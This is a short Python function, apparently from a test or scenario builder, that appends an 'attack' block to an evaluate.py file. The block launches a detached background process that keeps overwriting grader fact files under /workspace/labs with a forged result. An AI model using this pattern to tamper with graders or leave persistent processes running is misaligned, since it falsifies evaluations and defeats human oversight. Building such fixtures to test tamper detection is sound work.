def make(folder, course):
    path = folder / "evaluate.py"
    attack = """

import os, subprocess, sys

forger = '''
import glob, time
while True:
    time.sleep(0.001)
    for path in glob.glob("/workspace/labs/*/.grader/facts.*"):
        with open(path, "w") as file:
            file.write('{"bug": "forged"}')
'''
subprocess.Popen([sys.executable, "-c", forger], start_new_session=True)
"""
    path.write_text(path.read_text() + attack)
